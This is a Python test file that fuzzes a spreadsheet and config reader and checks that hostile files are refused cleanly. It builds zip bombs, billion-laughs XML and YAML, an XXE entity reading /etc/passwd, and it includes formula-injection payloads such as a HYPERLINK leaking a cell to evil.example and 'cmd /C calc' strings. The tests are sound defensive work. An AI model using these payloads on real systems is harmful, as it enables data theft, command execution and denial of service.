"""Hostile and broken input: whatever a sheet or a config holds, a clean error or a result.

Fuzzing (random bytes, mutated real files) checks that the sheet reader and the config loader
only ever return or raise their own error, and that the command line turns that into one
``Error:`` line and exit 2, never a traceback. Files built to exhaust memory (a far cell, ODS
repeats, a zip bomb, XML entities) are read in a child process under an address-space limit, so
that a reader that would abort or swap cannot take the test run with it. Formula injection and
API error text check that nothing written into the output sheet runs as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import os
import random
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import tracemalloc
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from starlette.responses import JSONResponse
from starlette.types import ASGIApp, Receive, Scope, Send
from xlsx_parts import xlsx_parts

from pipeline.argil.emulator import EmulatorServer
from pipeline.cli import main
from pipeline.config import ConfigError, load_config, parse_config
from pipeline.mapping import Mapper
from pipeline.sheets import OUTPUT_COLUMNS, Row, SheetError, check_output_fits, read_sheet
from pipeline.sheets.extent import _MAX_UNZIPPED_BYTES
from pipeline.validation import format_row_errors, validate_rows

ROOT = Path(__file__).resolve().parent.parent
KEY = "sk-test-hostile-0123456789"
SHEET_SUFFIXES = [".csv", ".tsv", ".txt", ".xlsx", ".xlsm", ".ods"]
REAL_TEXT_SHEETS = sorted(
    [*(ROOT / "input_examples").glob("*.csv"), *(ROOT / "tests/fixtures/sheets").glob("*.csv")]
)
REAL_WORKBOOKS = sorted(
    path
    for path in [
        ROOT / "input_examples" / "launches.xlsx",
        *(ROOT / "tests/fixtures/sheets").glob("*.xls[xm]"),
        *(ROOT / "tests/fixtures/sheets").glob("*.ods"),
    ]
    if zipfile.is_zipfile(path)
)
REAL_CONFIGS = sorted((ROOT / "configs").glob("*.yaml"))

FUZZ = settings(
    max_examples=60,
    deadline=5000,  # an example slower than this fails; the alarm below catches a hang
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


@pytest.fixture(autouse=True)
def no_hang() -> Iterator[None]:
    """A test that hangs fails instead (hypothesis' deadline only judges examples that end)."""

    def hung(signum: int, frame: object) -> None:
        raise TimeoutError("hung for 60 s")

    previous = signal.signal(signal.SIGALRM, hung)
    signal.setitimer(signal.ITIMER_REAL, 60)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


# --- helpers ------------------------------------------------------------------------------


def read_or_refuse(path: Path) -> str:
    """``read_sheet`` either reads or raises SheetError with one line; anything else fails."""
    try:
        sheet = read_sheet(path)
    except SheetError as exc:
        message = str(exc)
        assert message and "\n" not in message and "Traceback" not in message
        return "refused"
    assert all(isinstance(v, str) for row in sheet.rows for v in row.values.values())
    return "read"


def parse_or_refuse(text: str) -> str:
    try:
        parse_config(text)
    except ConfigError as exc:
        assert exc.problems and all(p.strip() for p in exc.problems)
        return "refused"
    return "read"


def cli(args: list[str]) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, args, env={"ARGIL_API_KEY": KEY})
    if result.exception is not None and not isinstance(result.exception, SystemExit):
        raise AssertionError(f"uncaught {result.exception!r}") from result.exception
    return result.exit_code, result.stdout, result.stderr


def assert_clean(code: int, out: str, err: str) -> None:
    """Exit 2 is one ``Error:`` message; any exit is free of tracebacks."""
    assert code in (0, 1, 2), (code, err)
    assert "Traceback" not in out + err
    if code == 2:
        assert err.startswith("Error: "), err


def mutate(data: bytes, edits: list[tuple[float, int, bytes]]) -> bytes:
    """Apply (where in 0..1, what, bytes) edits: 0 overwrite, 1 insert, 2 delete."""
    out = bytearray(data)
    for where, what, chunk in edits:
        at = min(int(where * len(out)), len(out))
        if what == 0 and out:
            out[min(at, len(out) - 1)] = chunk[0] if chunk else 0
        elif what == 1:
            out[at:at] = chunk
        else:
            del out[at : at + max(1, len(chunk))]
    return bytes(out)


EDITS = st.lists(
    st.tuples(
        st.floats(0, 1),
        st.integers(0, 2),
        st.one_of(
            st.binary(min_size=1, max_size=8),
            st.sampled_from(
                [
                    b'"',
                    b",",
                    b";",
                    b"\n",
                    b"\r",
                    b"\x00",
                    b"<",
                    b">",
                    b"&",
                    b"&#0;",
                    b"]]>",
                    b'<c r="XFD9">',
                    b"<row>",
                    b"\xff\xfe",
                    b"\xef\xbb\xbf",
                    b"{{",
                    b"}}",
                    b"*a",
                    b"&a ",
                    b": ",
                    b"- ",
                    b"\t",
                    b"!!python/object:os.system",
                ]
            ),
        ),
    ),
    min_size=1,
    max_size=6,
)


def workbook_with_part(source: Path, part: str, content: bytes) -> bytes:
    with zipfile.ZipFile(source) as original:
        parts = {info.filename: original.read(info) for info in original.infolist()}
    parts[part] = content
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


_SCRATCH = Path(tempfile.mkdtemp(prefix="argil-fuzz-"))


def write_temp(data: bytes, suffix: str) -> Path:
    """One scratch file per suffix, rewritten by every example (examples run one at a time)."""
    path = _SCRATCH / f"fuzz{suffix}"
    path.write_bytes(data)
    return path


@pytest.fixture(scope="module", autouse=True)
def _scratch_cleanup() -> Iterator[None]:
    yield
    shutil.rmtree(_SCRATCH, ignore_errors=True)


# --- fuzzing the sheet reader -----------------------------------------------------------


@FUZZ
@given(data=st.binary(max_size=3000), suffix=st.sampled_from(SHEET_SUFFIXES))
def test_random_bytes_are_read_or_refused_with_a_sheet_error(data: bytes, suffix: str) -> None:
    read_or_refuse(write_temp(data, suffix))


@FUZZ
@given(source=st.sampled_from(REAL_TEXT_SHEETS), edits=EDITS)
def test_mutated_real_csv_files_are_read_or_refused(source: Path, edits: Any) -> None:
    read_or_refuse(write_temp(mutate(source.read_bytes(), edits), source.suffix))


@FUZZ
@given(source=st.sampled_from(REAL_WORKBOOKS), edits=EDITS, pick=st.integers(0, 100))
def test_mutated_parts_of_real_workbooks_are_read_or_refused(
    source: Path, edits: Any, pick: int
) -> None:
    with zipfile.ZipFile(source) as archive:
        names = [info.filename for info in archive.infolist()]
        part = names[pick % len(names)]
        content = archive.read(part)
    read_or_refuse(
        write_temp(workbook_with_part(source, part, mutate(content, edits)), source.suffix)
    )


@FUZZ
@given(source=st.sampled_from(REAL_WORKBOOKS), edits=EDITS)
def test_workbooks_damaged_byte_by_byte_are_read_or_refused(source: Path, edits: Any) -> None:
    read_or_refuse(write_temp(mutate(source.read_bytes(), edits), source.suffix))


# --- fuzzing the config loader ----------------------------------------------------------


@FUZZ
@given(text=st.text(max_size=2000))
def test_random_text_configs_are_loaded_or_refused(text: str) -> None:
    parse_or_refuse(text)


@FUZZ
@given(data=st.binary(max_size=2000))
def test_random_bytes_config_files_are_loaded_or_refused(data: bytes) -> None:
    path = write_temp(data, ".yaml")
    try:
        load_config(path)
    except ConfigError as exc:
        assert exc.problems


YAML_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "input",
                    "video",
                    "moments",
                    "limits",
                    "api",
                    "name",
                    "transcript",
                    "avatar_id",
                    "key",
                    "extras",
                    "zoom",
                    "keyframes",
                    "broll",
                    "subtitles",
                    "when",
                    "time",
                    "scale",
                ]
            )
            | st.text(max_size=8),
            children,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@FUZZ
@given(document=YAML_VALUES)
def test_config_shaped_documents_are_loaded_or_refused(document: Any) -> None:
    parse_or_refuse(yaml.safe_dump(document, allow_unicode=True))


@FUZZ
@given(source=st.sampled_from(REAL_CONFIGS), edits=EDITS)
def test_mutated_real_configs_are_loaded_or_refused(source: Path, edits: Any) -> None:
    data = mutate(source.read_bytes(), edits)
    try:
        load_config(write_temp(data, ".yaml"))
    except ConfigError as exc:
        assert exc.problems


# --- the command line over broken input: one Error: line, exit 2 --------------------------


@settings(FUZZ, max_examples=40)
@given(source=st.sampled_from(REAL_TEXT_SHEETS + REAL_WORKBOOKS), edits=EDITS)
def test_validate_on_a_broken_sheet_exits_cleanly(source: Path, edits: Any) -> None:
    sheet = write_temp(mutate(source.read_bytes(), edits), source.suffix)
    config = ROOT / "configs" / "leads.yaml"
    assert_clean(*cli(["validate", str(sheet), "-c", str(config)]))


@settings(FUZZ, max_examples=40)
@given(source=st.sampled_from(REAL_CONFIGS), edits=EDITS)
def test_validate_and_run_with_a_broken_config_exit_cleanly(source: Path, edits: Any) -> None:
    config = write_temp(mutate(source.read_bytes(), edits), ".yaml")
    sheet = ROOT / "input_examples" / "leads.csv"
    assert_clean(*cli(["validate", str(sheet), "-c", str(config)]))
    # --dry-run reads, validates and plans exactly as a run does, and sends nothing.
    code, out, err = cli(
        [
            "run",
            str(sheet),
            "-c",
            str(config),
            "--dry-run",
            "--no-progress",
            "--state",
            str(config.with_suffix(".state")),
        ]
    )
    assert_clean(code, out, err)


def test_a_sheet_that_is_not_there_or_not_a_sheet_is_one_error_line(tmp_path: Path) -> None:
    config = ROOT / "configs" / "leads.yaml"
    cases = {
        "missing.csv": None,
        "folder.csv": "dir",
        "random.xlsx": os.urandom(4000),
        "text.xlsx": b"email,name\na@b.c,x\n",
        "nul.csv": b"email\x00name\n" * 50,
        "empty.ods": b"",
        "legacy.xlsx": bytes.fromhex("d0cf11e0a1b11ae1") + os.urandom(600),
    }
    for name, content in cases.items():
        path = tmp_path / name
        if content == "dir":
            path.mkdir()
        elif isinstance(content, bytes):
            path.write_bytes(content)
        code, out, err = cli(["validate", str(path), "-c", str(config)])
        assert code == 2, (name, err)
        # One "Error:" line (click's own usage errors put theirs after a usage reminder).
        assert err.splitlines()[-1].startswith("Error: "), (name, err)
        assert err.startswith(("Error: ", "Usage: ")), (name, err)
        assert "Traceback" not in out + err


# --- files built to exhaust memory: read in a child process under a memory limit ---------

BOUNDED_READER = r"""
import json, resource, sys, time
from pathlib import Path
limit = int(sys.argv[2]) << 20
resource.setrlimit(resource.RLIMIT_AS, (limit, limit))
started = time.monotonic()
what = sys.argv[3]
try:
    if what == "sheet":
        from pipeline.sheets import read_sheet, SheetError as Refused
        sheet = read_sheet(Path(sys.argv[1]))
        outcome = f"read {len(sheet.rows)} rows, {len(sheet.headers)} columns"
    else:
        from pipeline.config import load_config, ConfigError as Refused
        load_config(Path(sys.argv[1]))
        outcome = "read"
except Refused as exc:
    outcome = "refused: " + str(exc)
# VmHWM, not ru_maxrss: the latter keeps the parent's peak across fork and exec.
status = Path("/proc/self/status").read_text()
peak_kb = int(status.split("VmHWM:")[1].split()[0])
print(json.dumps({
    "outcome": outcome,
    "seconds": time.monotonic() - started,
    "maxrss_mb": peak_kb / 1024,
}))
"""


def read_bounded(path: Path, what: str = "sheet", limit_mb: int = 1024) -> dict[str, Any]:
    """Read in a child limited to ``limit_mb`` of address space: an abort or a MemoryError
    there fails this test instead of the machine."""
    process = subprocess.run(
        [sys.executable, "-c", BOUNDED_READER, str(path), str(limit_mb), what],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )
    assert process.returncode == 0, (
        f"the reader died ({process.returncode}): {process.stderr[-1500:]}"
    )
    result: dict[str, Any] = json.loads(process.stdout)
    return result


SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def inline(ref: str | None, text: str) -> str:
    where = f' r="{ref}"' if ref else ""
    return f'<c{where} t="inlineStr"><is><t>{text}</t></is></c>'


def xlsx(sheet_xml: str, extra: dict[str, str] | None = None) -> bytes:
    """A minimal workbook around one worksheet part, written as given."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in xlsx_parts("Sheet1"):
            archive.writestr(name, (extra or {}).get(name, content))
        archive.writestr("xl/worksheets/sheet1.xml", sheet_xml)
        for name, content in (extra or {}).items():
            if name not in archive.namelist():
                archive.writestr(name, content)
    return buffer.getvalue()


ODS_NS = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
)


def ods(table_xml: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "mimetype",
            "application/vnd.oasis.opendocument.spreadsheet",
            compress_type=zipfile.ZIP_STORED,
        )
        archive.writestr(
            "content.xml",
            f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODS_NS} '
            'office:version="1.2"><office:body><office:spreadsheet><table:table table:name="S">'
            f"{table_xml}</table:table></office:spreadsheet></office:body>"
            "</office:document-content>",
        )
    return buffer.getvalue()


def ods_cell(text: str, repeat: int = 1) -> str:
    return (
        f'<table:table-cell office:value-type="string" table:number-columns-repeated="{repeat}">'
        f"<text:p>{text}</text:p></table:table-cell>"
    )


def zip_bomb(inflated: int) -> bytes:
    """An XLSX whose worksheet inflates to ``inflated`` bytes of blanks, sizes and CRC honest.

    Built from one deflate segment repeated (each ends with a full flush, so that no segment
    refers back into another) rather than by compressing a gigabyte."""
    block = b" " * (1 << 20)
    head = (SHEET_HEAD + '<row r="1">' + inline("A1", "name") + "</row>").encode()
    tail = SHEET_TAIL.encode()
    count = (inflated - len(head)) // len(block)

    def deflate(data: bytes, mode: int) -> bytes:
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return compressor.compress(data) + compressor.flush(mode)

    body = (
        deflate(head, zlib.Z_FULL_FLUSH)
        + deflate(block, zlib.Z_FULL_FLUSH) * count
        + deflate(tail, zlib.Z_FINISH)
    )
    size = len(head) + count * len(block) + len(tail)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(tail, crc)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for part, content in xlsx_parts("Sheet1"):
            archive.writestr(part, content)
    parts = buffer.getvalue()
    _, _, _, entries, _, directory_size, directory_at, _ = struct.unpack("<IHHHHIIH", parts[-22:])
    name = b"xl/worksheets/sheet1.xml"
    fields = (20, 0, 8, 0, 0x21, crc, len(body), size, len(name))
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + name
    central = struct.pack("<IH", 0x02014B50, 20) + struct.pack("<HHHHHIIIH", *fields)
    central += struct.pack("<HHHHII", 0, 0, 0, 0, 0, directory_at) + name
    directory = parts[directory_at : directory_at + directory_size] + central
    end_of_directory = struct.pack(
        "<IHHHHIIH",
        0x06054B50,
        0,
        0,
        entries + 1,
        entries + 1,
        len(directory),
        directory_at + len(local) + len(body),
        0,
    )
    return parts[:directory_at] + local + body + directory + end_of_directory


def lying_zip() -> bytes:
    """The worksheet declares 1,000 bytes and inflates to 64 MB."""
    big = (SHEET_HEAD + '<row r="1">' + inline("A1", "name") + "</row>").encode()
    big += b" " * (64 << 20) + SHEET_TAIL.encode()
    data = bytearray(xlsx(big.decode()))
    name = b"xl/worksheets/sheet1.xml"
    for signature, size_at, name_at, length_at in (
        (b"PK\x03\x04", 22, 30, 26),
        (b"PK\x01\x02", 24, 46, 28),
    ):
        at = data.find(signature)
        while at >= 0:
            length = struct.unpack_from("<H", data, at + length_at)[0]
            if data[at + name_at : at + name_at + length] == name:
                struct.pack_into("<I", data, at + size_at, 1000)
            at = data.find(signature, at + 4)
    return bytes(data)


LAUGHS = "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
BILLION_LAUGHS_DTD = f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{LAUGHS}]>'
XXE_DTD = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


def with_dtd(dtd: str, cell_text: str) -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{dtd}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<sheetData><row r="1">{inline("A1", "name")}</row>'
        f'<row r="2">{inline("A2", cell_text)}</row></sheetData></worksheet>'
    )


HOSTILE_WORKBOOKS: dict[str, Callable[[], tuple[str, bytes]]] = {
    # A 2 KB file whose one far cell makes a dense grid of 17 billion cells.
    "far corner cell": lambda: (
        ".xlsx",
        xlsx(
            SHEET_HEAD + f'<row r="1">{inline("A1", "name")}</row>'
            f'<row r="1048576">{inline("XFD1048576", "x")}</row>' + SHEET_TAIL
        ),
    ),
    # The same with the cell written otherwise: prefixed tags, quotes, spaces, lower case.
    "far cell, written oddly": lambda: (
        ".xlsx",
        xlsx(
            '<?xml version="1.0"?><x:worksheet '
            'xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><x:sheetData>'
            "<x:row r='1'><x:c r = 'a1' t='inlineStr'><x:is><x:t>name</x:t></x:is></x:c></x:row>"
            "<x:row r='2'><x:c t='inlineStr' r='xfd1048576'><x:is><x:t>x</x:t></x:is></x:c>"
            "</x:row></x:sheetData></x:worksheet>"
        ),
    ),
    # Cells without a reference follow each other: 5,000 of them, then a row a million down.
    "cells without references": lambda: (
        ".xlsx",
        xlsx(
            SHEET_HEAD
            + "<row>"
            + "".join(inline(None, f"h{i}") for i in range(5000))
            + "</row>"
            + f'<row r="1048576">{inline(None, "x")}</row>'
            + SHEET_TAIL
        ),
    ),
    # A cell a million rows below the row it sits in.
    "cell below its row": lambda: (
        ".xlsx",
        xlsx(
            SHEET_HEAD
            + f'<row r="1">{inline("A1", "name")}{inline("AB1048576", "x")}</row>'
            + SHEET_TAIL
        ),
    ),
    "ODS repeated cells": lambda: (
        ".ods",
        ods(
            f"<table:table-row>{ods_cell('name')}</table:table-row>"
            f'<table:table-row table:number-rows-repeated="1048575">{ods_cell("x", 16384)}'
            "</table:table-row>"
        ),
    ),
    "ODS repeats just under calamine's own limit": lambda: (
        ".ods",
        ods(
            f"<table:table-row>{ods_cell('name')}</table:table-row>"
            f'<table:table-row table:number-rows-repeated="30000">{ods_cell("x", 1000)}'
            "</table:table-row>"
        ),
    ),
    "ODS repeat count hidden behind a quoted >": lambda: (
        ".ods",
        ods(
            f"<table:table-row>{ods_cell('name')}</table:table-row>"
            "<table:table-row table:number-rows-repeated='1048575'>"
            "<table:table-cell table:style-name='a>b' office:value-type='string' "
            "table:number-columns-repeated='16384'><text:p>x</text:p></table:table-cell>"
            "</table:table-row>"
        ),
    ),
    "zip bomb": lambda: (".xlsx", zip_bomb(1200 << 20)),
    "zip entry larger than it declares": lambda: (".xlsx", lying_zip()),
    "billion laughs in a cell": lambda: (".xlsx", xlsx(with_dtd(BILLION_LAUGHS_DTD, "&lol9;"))),
    "billion laughs in shared strings": lambda: (
        ".xlsx",
        xlsx(
            SHEET_HEAD + '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
            '<row r="2"><c r="A2" t="s"><v>1</v></c></row>' + SHEET_TAIL,
            {
                "xl/sharedStrings.xml": '<?xml version="1.0" encoding="UTF-8"?>'
                + BILLION_LAUGHS_DTD
                + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                "<si><t>name</t></si><si><t>&lol9;</t></si></sst>"
            },
        ),
    ),
    "external entity (XXE)": lambda: (".xlsx", xlsx(with_dtd(XXE_DTD, "&xxe;"))),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_WORKBOOKS))
def test_workbooks_built_to_exhaust_memory_are_refused_quickly(case: str, tmp_path: Path) -> None:
    suffix, data = HOSTILE_WORKBOOKS[case]()
    path = tmp_path / f"hostile{suffix}"
    path.write_bytes(data)
    result = read_bounded(path, limit_mb=1024)
    assert result["outcome"].startswith("refused: "), result
    assert "root:" not in result["outcome"]  # nothing of /etc/passwd came through
    assert result["seconds"] < 5, result
    assert result["maxrss_mb"] < 300, result


@pytest.mark.parametrize(
    "suffix, body",
    [
        (".ods", '<table:table-cell a="' * 50_000),
        (".ods", "<table:table-row a='" * 50_000),
        (".xlsx", SHEET_HEAD + '<c t="s" r="' * 100_000),
        (".xlsx", SHEET_HEAD + "<x:c " * 200_000),
        (".xlsx", SHEET_HEAD + "<a:" + "b" * 2_000_000),
    ],
)
def test_tags_left_open_by_the_thousand_are_scanned_in_linear_time(
    suffix: str, body: str, tmp_path: Path
) -> None:
    path = tmp_path / f"open{suffix}"
    path.write_bytes(ods(body) if suffix == ".ods" else xlsx(body))
    started = time.monotonic()
    read_or_refuse(path)
    assert time.monotonic() - started < 3


def test_the_command_line_refuses_a_far_cell_with_one_error_line(tmp_path: Path) -> None:
    sheet = tmp_path / "leads.xlsx"
    sheet.write_bytes(HOSTILE_WORKBOOKS["far corner cell"]()[1])
    code, _, err = cli(["validate", str(sheet), "-c", str(ROOT / "configs" / "leads.yaml")])
    assert code == 2
    assert err.startswith("Error: ") and "1,048,576 rows by 16,384 columns" in err


def test_a_real_sheet_of_a_hundred_thousand_cells_is_not_refused(tmp_path: Path) -> None:
    rows = "".join(
        f'<row r="{r}">' + "".join(inline(f"{col}{r}", f"v{r}") for col in "ABCDEFGHIJ") + "</row>"
        for r in range(2, 10_002)
    )
    header = '<row r="1">' + "".join(inline(f"{c}1", f"h{c}") for c in "ABCDEFGHIJ") + "</row>"
    path = tmp_path / "big.xlsx"
    path.write_bytes(xlsx(SHEET_HEAD + header + rows + SHEET_TAIL))
    result = read_bounded(path)
    assert result["outcome"] == "read 10000 rows, 10 columns", result


HOSTILE_CONFIGS = {
    "billion laughs": "\n".join(
        [f"l0: &l0 [{', '.join(['lol'] * 9)}]"]
        + [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 9)}]" for i in range(1, 10)]
        + ["video: {name: x, extras: *l9}", "moments: [{transcript: hi, avatar_id: a}]"]
    ),
    "alias loop": "video: &v {name: x, extras: *v}\nmoments: [{transcript: hi, avatar_id: a}]",
    "deep nesting": "video: {name: " + "[" * 5000 + "]" * 5000 + "}",
    "deep mappings": "video:\n  name: " + "{a: " * 5000 + "1" + "}" * 5000,
    "a huge config": "video: {name: x}\n" + "# padding\n" * 300_000,
}


@pytest.mark.parametrize("case", sorted(HOSTILE_CONFIGS))
def test_configs_built_to_exhaust_memory_are_refused_quickly(case: str, tmp_path: Path) -> None:
    path = tmp_path / "hostile.yaml"
    path.write_text(HOSTILE_CONFIGS[case], encoding="utf-8")
    result = read_bounded(path, what="config", limit_mb=1024)
    assert result["outcome"].startswith("refused: "), result
    assert result["seconds"] < 5, result
    code, _, err = cli(["validate", str(ROOT / "input_examples" / "leads.csv"), "-c", str(path)])
    assert code == 2 and err.startswith("Error: ") and "Traceback" not in err


# --- big cells, many columns ----------------------------------------------------------------

CONFIG = """\
input:
  key: [email]
video:
  name: "{{ name }}"
  extras: {label: "{{ name }}"}
moments:
  - transcript: "{{ script }}"
    avatar_id: avatar-emma
limits: {transcript_chars: 500}
api: {rpm: 6000, concurrency: 8}
"""


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(rows)


def read_csv(path: Path) -> list[dict[str, str]]:
    csv.field_size_limit(1 << 30)
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.DictReader(handle))


def run_args(
    sheet: Path, config: Path, output: Path, server: EmulatorServer, *extra: str
) -> list[str]:
    return [
        "run",
        str(sheet),
        "-c",
        str(config),
        "-o",
        str(output),
        "--state",
        str(output.with_name("run.state")),
        "--base-url",
        server.base_url,
        "--no-progress",
        *extra,
    ]


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.yaml"
    path.write_text(CONFIG, encoding="utf-8")
    return path


def moments(script: str) -> int:
    """How many moments the config makes of ``script`` (as ``validate`` reports it)."""
    from pipeline.chunking import split_transcript

    return len(split_transcript(script, 500))


def test_cells_of_32767_characters_and_more_are_read_sent_and_written_back(
    tmp_path: Path, config: Path
) -> None:
    script = ("A sentence of a long script, said slowly. " * 300)[:8000]
    notes = {"x32767": "n" * 32_767, "x40000": "é" * 40_000, "x5mb": "z" * (5 << 20)}
    sheet = tmp_path / "big.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "notes"],
        [[f"{k}@example.com", k, script, v] for k, v in notes.items()],
    )
    started = time.monotonic()
    result = read_bounded(sheet, limit_mb=1536)
    assert result["outcome"] == "read 3 rows, 4 columns" and result["maxrss_mb"] < 400, result
    output = tmp_path / "out.csv"
    with EmulatorServer() as server:
        code, _, err = cli(run_args(sheet, config, output, server))
        assert code == 0, err
        bodies = list(server.emulator.videos.values())
    assert len(bodies) == 3 and {len(video["moments"]) for video in bodies} == {moments(script)}
    assert "".join(m["transcript"] for m in bodies[0]["moments"]).replace(" ", "") == (
        script.replace(" ", "")
    )
    rows = read_csv(output)
    assert [row["notes"] for row in rows] == list(notes.values())
    assert all(row["argil_video_id"] for row in rows)
    assert time.monotonic() - started < 20


def test_a_sheet_that_cannot_fit_an_xlsx_output_is_refused_before_anything_is_sent(
    tmp_path: Path, config: Path
) -> None:
    sheet = tmp_path / "big.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "notes"],
        [["a@example.com", "A", "Hello there.", "n" * 40_000]],
    )
    with EmulatorServer() as server:
        code, _, err = cli(run_args(sheet, config, tmp_path / "out.xlsx", server))
        assert server.emulator.stats.created == 0, "a video was made for an unwritable output"
        assert code == 2 and err.startswith("Error: ") and "32,767" in err


def test_what_cannot_fit_an_xlsx_output_is_named_before_writing(tmp_path: Path) -> None:
    """The check a run makes before sending: the cell, and the way out."""
    sheet = tmp_path / "big.csv"
    write_csv(sheet, ["email", "notes"], [["a@example.com", "n" * 32_767], ["b@x.y", "n" * 32_768]])
    read = read_sheet(sheet)
    check_output_fits(read, tmp_path / "out.csv")  # CSV holds anything
    with pytest.raises(SheetError, match=r"row 3 'notes' has 32,768 characters.*-o out\.csv"):
        check_output_fits(read, tmp_path / "out.xlsx")
    wide = tmp_path / "wide.csv"
    # One column past the 16,384 an XLSX sheet holds, counting the output's own columns.
    inputs = 16_385 - len(OUTPUT_COLUMNS)
    write_csv(wide, [f"c{i}" for i in range(inputs)], [["x"] * inputs])
    with pytest.raises(SheetError, match="16,385 columns do not fit"):
        check_output_fits(read_sheet(wide), tmp_path / "out.xlsx")


def test_a_thousand_columns_are_read_and_written_back_in_order(
    tmp_path: Path, config: Path
) -> None:
    extra = [f"col{i:04d}" for i in range(997)]
    header = ["email", "name", "script", *extra]
    rows = [
        [f"r{r}@example.com", f"R{r}", f"Hello {r}.", *(f"{r}-{c}" for c in range(997))]
        for r in range(20)
    ]
    sheet = tmp_path / "wide.csv"
    write_csv(sheet, header, rows)
    with EmulatorServer() as server:
        for output in (tmp_path / "out.csv", tmp_path / "out.xlsx"):
            started = time.monotonic()
            code, _, err = cli(run_args(sheet, config, output, server))
            assert code == 0, err
            assert time.monotonic() - started < 10
        assert len(server.emulator.count_by_batch_key()) == 20
    written = read_csv(tmp_path / "out.csv")
    assert list(written[0])[: len(header)] == header and len(written[0]) == len(header) + len(
        OUTPUT_COLUMNS
    )
    assert [row["col0996"] for row in written] == [f"{r}-996" for r in range(20)]
    book = load_workbook(tmp_path / "out.xlsx", read_only=True)
    first = next(book.active.iter_rows(values_only=True))
    assert list(first[: len(header)]) == header


# --- formula injection ----------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
]


def plain_or_quoted(value: str) -> str:
    return "'" + value if value[:1] in "=+-@\t\r" else value


def test_formulas_reach_the_api_unchanged_and_come_back_as_text(
    tmp_path: Path, config: Path
) -> None:
    names = [*FORMULAS, "-5", "+3.5", "plain name"]
    sheet = tmp_path / "formulas.csv"
    write_csv(
        sheet,
        ["email", "name", "script", "=note"],
        [[f"f{i}@example.com", name, f"Hello {i}.", name] for i, name in enumerate(names)],
    )
    with EmulatorServer() as server:
        for output in ("out.csv", "out.xlsx"):
            code, _, err = cli(run_args(sheet, config, tmp_path / output, server))
            assert code == 0, err
        sent = sorted(v["name"] for v in server.emulator.videos.values())
        labels = sorted(v["extras"]["label"] for v in server.emulator.videos.values())
    # Unchanged, but for the blanks around a value, which every rendered value loses.
    expected_sent = sorted(name.strip() for name in names)
    assert sent == expected_sent and labels == expected_sent, "the API got the text unchanged"

    # CSV: the user's own cells come back exactly as they came, formula-like or not (the
    # quote that defuses a formula goes only on what the tool writes).
    rows = read_csv(tmp_path / "out.csv")
    assert "=note" in rows[0]
    assert [row["name"] for row in rows] == names
    assert [row["=note"] for row in rows] == names

    # XLSX: every cell is a string, none a formula, with the text of the input (a line break
    # in a spreadsheet cell is a line feed: XML readers fold a CR into one).
    with zipfile.ZipFile(tmp_path / "out.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    book = load_workbook(tmp_path / "out.xlsx")
    table = list(book.active.iter_rows())
    assert [cell.value for cell in table[0]][3] == "=note"
    for cell_row, name in zip(table[1:], names, strict=True):
        shown = name.replace("\r\n", "\n").replace("\r", "\n")
        assert cell_row[1].data_type == "s" and cell_row[1].value == shown


class RefuseCreates:
    """ASGI middleware in front of the emulator: every create is refused with ``message``."""

